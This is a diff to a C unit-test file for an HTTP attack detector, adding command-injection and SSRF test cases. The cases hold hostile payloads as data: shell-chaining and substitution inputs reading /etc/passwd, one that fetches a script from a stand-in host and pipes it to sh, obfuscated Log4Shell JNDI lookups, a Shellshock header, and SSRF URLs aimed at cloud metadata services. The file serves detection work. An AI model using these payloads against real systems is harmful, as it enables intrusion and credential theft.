@@ -100,7 +100,122 @@ static void test_names(void **state)
 	assert_string_equal(threat_type_name(THREAT_XSS), "xss");
 	assert_string_equal(threat_type_name(THREAT_PATH_TRAVERSAL), "path_traversal");
 	assert_string_equal(threat_type_name(THREAT_SENSITIVE_PATH), "sensitive_path_access");
+	assert_string_equal(threat_type_name(THREAT_COMMAND_INJECTION), "command_injection");
+	assert_string_equal(threat_type_name(THREAT_SSRF), "ssrf");
 	assert_string_equal(threat_type_name(THREAT__COUNT), "unknown");
+}
+
+/* Each rule of cmdi.c and ssrf.c once, where it is looked for. */
+static void test_inject_rules(void **state)
+{
+	static const struct tcase cases[] = {
+		{ "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", THREAT_COMMAND_INJECTION, "query",
+		  "shell_chain" },
+		{ "/ping?host=x%7C%7Cid", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/ping?host=x%0Auname%20-a", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/ping?host=x%26%26curl%20http://e.example/s.sh%7Csh", THREAT_COMMAND_INJECTION,
+		  "query", "shell_chain" },
+		{ "/ping?host=x;w%27h%27oami", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/ping?host=x;cat${IFS}/etc/hosts", THREAT_COMMAND_INJECTION, "query",
+		  "shell_chain" },
+		{ "/ping?host=x;{cat,/etc/hosts}", THREAT_COMMAND_INJECTION, "query",
+		  "shell_chain" },
+		{ "/ping?host=x;sleep+5", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/ping?host=x;/bin/sh", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/ping?host=$(whoami)", THREAT_COMMAND_INJECTION, "query", "shell_subst" },
+		{ "/ping?host=x`id`", THREAT_COMMAND_INJECTION, "query", "shell_subst" },
+		{ "/ping?host=x;who$()ami", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
+		{ "/?q=${jndi:ldap://x.example/a}", THREAT_COMMAND_INJECTION, "query",
+		  "jndi_lookup" },
+		{ "/?q=${${lower:j}${upper:n}di:rmi://x/a}", THREAT_COMMAND_INJECTION, "query",
+		  "jndi_lookup" },
+		{ "/?q=${${env:NaN:-j}ndi${env:NaN:-:}dns://x/a}", THREAT_COMMAND_INJECTION,
+		  "query", "jndi_lookup" },
+		{ "/?q=${${date:'j'}ndi:ldap://x/a}", THREAT_COMMAND_INJECTION, "query",
+		  "jndi_lookup" },
+		{ "/${jndi:ldap://x/a}", THREAT_COMMAND_INJECTION, "path", "jndi_lookup" },
+		{ "/fetch?url=http://169.254.169.254/latest/meta-data/", THREAT_SSRF, "query",
+		  "metadata_host" },
+		{ "/fetch?url=http://2852039166/", THREAT_SSRF, "query", "metadata_host" },
+		{ "/fetch?url=http://[::ffff:a9fe:a9fe]/", THREAT_SSRF, "query", "metadata_host" },
+		{ "/fetch?url=http://[fd00:ec2::254]/", THREAT_SSRF, "query", "metadata_host" },
+		{ "/fetch?url=http://good.example%23@metadata.google.internal./", THREAT_SSRF,
+		  "query", "metadata_host" },
+		{ "/fetch?url=http://169.254.169.254%23@good.example/", THREAT_SSRF, "query",
+		  "metadata_host" },
+		{ "/fetch?url=http://127.1:8080/", THREAT_SSRF, "query", "loopback_disguised" },
+		{ "/fetch?url=http://[::]/", THREAT_SSRF, "query", "loopback_disguised" },
+		{ "/fetch?url=http://localhost:6379/", THREAT_SSRF, "query", "loopback_service" },
+		{ "/fetch?url=gopher://10.0.0.1:6379/_x", THREAT_SSRF, "query", "gopher_scheme" },
+		{ "/fetch?url=file:///etc/hosts", THREAT_SSRF, "query", "file_scheme" },
+		{ "/fetch?url=jar:http://e.example/x.jar!/", THREAT_SSRF, "query", "jar_scheme" },
+		{ "/proxy/http://169.254.169.254/latest", THREAT_SSRF, "path", "metadata_host" },
+	};
+	static const char *const clean[] = {
+		"/search?q=Tom+%26+Jerry%3B+cat+lovers",
+		"/search?q=run+%60ls+-la%60+to+list+files",
+		"/search?q=ping+pong",
+		"/oauth/cb?redirect_uri=http://localhost:3000/callback",
+		"/oauth/cb?redirect_uri=http://127.0.0.1:8080/cb",
+		"/hook?url=https://hooks.example.com/x",
+		"/cfg?redis=redis://localhost:6379/0",
+		"/search?q=file://+urls",
+		"/search?q=the+metadata+service+at+169.254.169.254",
+		"/search?q=%24%7BHOME%7D",
+		"/products;jsessionid=0A1B2C?sort=name;order=asc",
+	};
+
+	(void)state;
+	CHECK(cases);
+	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++)
+		expect_clean(clean[i]);
+	/* a lookup's ldap:// URL is the lookup's, not a second finding */
+	assert_int_equal(scan("/?q=${jndi:ldap://10.0.0.1/a}"), 1);
+}
+
+/* Headers: Log4Shell in any, shellshock in the User-Agent; cookies and
+ * agents with ';' are not shell. */
+static void test_inject_headers(void **state)
+{
+	static const char *const jndi[] = { "Mozilla/5.0", "${jndi:ldap://x.example/a}", NULL };
+	static const char *const shock[] = { "() { :; }; /bin/bash -c 'id'", NULL };
+	static const char *const benign[] = {
+		"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+		"sid=42; id=7; theme=dark", NULL
+	};
+	struct threat_input in = { .target = "/", .target_len = 1 };
+
+	(void)state;
+	in.header_values = jndi;
+	expect_hit("jndi header", scan_in(&in), THREAT_COMMAND_INJECTION, "header", "jndi_lookup");
+	in.header_values = shock;
+	expect_hit("shellshock", scan_in(&in), THREAT_COMMAND_INJECTION, "header", "shellshock");
+	in.header_values = benign;
+	assert_int_equal(scan_in(&in), 0);
+}
+
+/* A long JSON string is text someone wrote (an LLM prompt): shell syntax
+ * there is a topic; a short field value is still checked, and lookups
+ * everywhere. */
+static void test_inject_json(void **state)
+{
+	static const char prompt[] =
+		"{\"messages\":[{\"role\":\"user\",\"content\":\"My script does cd /tmp && ls -la "
+		"and then runs `cat /etc/hosts`; why does it fail?\"}]}";
+	static const char field[] = "{\"host\":\"127.0.0.1; cat /etc/passwd\"}";
+	static const char lookup[] =
+		"{\"content\":\"Please summarise this log line for me: user agent was "
+		"${jndi:ldap://x.example/a} today\"}";
+	struct threat_input in = { .target = "/v1/chat", .target_len = 8 };
+
+	(void)state;
+	in.content_type = "application/json";
+	in.body = prompt, in.body_len = strlen(prompt);
+	assert_int_equal(scan_in(&in), 0);
+	in.body = field, in.body_len = strlen(field);
+	expect_hit("json field", scan_in(&in), THREAT_COMMAND_INJECTION, "body", "shell_chain");
+	in.body = lookup, in.body_len = strlen(lookup);
+	expect_hit("json lookup", scan_in(&in), THREAT_COMMAND_INJECTION, "body", "jndi_lookup");
 }
 
 static void test_sqli(void **state)
@@ -523,6 +638,8 @@ static const struct hclass hclasses[] = {
 	{ "http_xss.txt", THREAT_XSS, 0.97, 100 },
 	{ "http_traversal.txt", THREAT_PATH_TRAVERSAL, 0.98, 70 },
 	{ "http_sensitive.txt", THREAT_SENSITIVE_PATH, 0.98, 90 },
+	{ "http_cmdi.txt", THREAT_COMMAND_INJECTION, 0.90, 100 },
+	{ "http_ssrf.txt", THREAT_SSRF, 0.90, 80 },
 };
 
 static void test_corpus_attacks(void **state)
@@ -631,13 +748,22 @@ static void test_corpus_benign(void **state)
 int main(int argc, char **argv)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_names),	      cmocka_unit_test(test_sqli),
-		cmocka_unit_test(test_xss),	      cmocka_unit_test(test_traversal),
-		cmocka_unit_test(test_sensitive),     cmocka_unit_test(test_body),
-		cmocka_unit_test(test_json_bounds),   cmocka_unit_test(test_headers),
-		cmocka_unit_test(test_hit_list),      cmocka_unit_test(test_bounds),
-		cmocka_unit_test(test_garbage),	      cmocka_unit_test(test_corpus_attacks),
+		cmocka_unit_test(test_names),
+		cmocka_unit_test(test_sqli),
+		cmocka_unit_test(test_xss),
+		cmocka_unit_test(test_traversal),
+		cmocka_unit_test(test_sensitive),
+		cmocka_unit_test(test_body),
+		cmocka_unit_test(test_json_bounds),
+		cmocka_unit_test(test_headers),
+		cmocka_unit_test(test_hit_list),
+		cmocka_unit_test(test_bounds),
+		cmocka_unit_test(test_garbage),
+		cmocka_unit_test(test_corpus_attacks),
 		cmocka_unit_test(test_corpus_benign),
+		cmocka_unit_test(test_inject_rules),
+		cmocka_unit_test(test_inject_headers),
+		cmocka_unit_test(test_inject_json),
 	};
 
 	(void)argc;
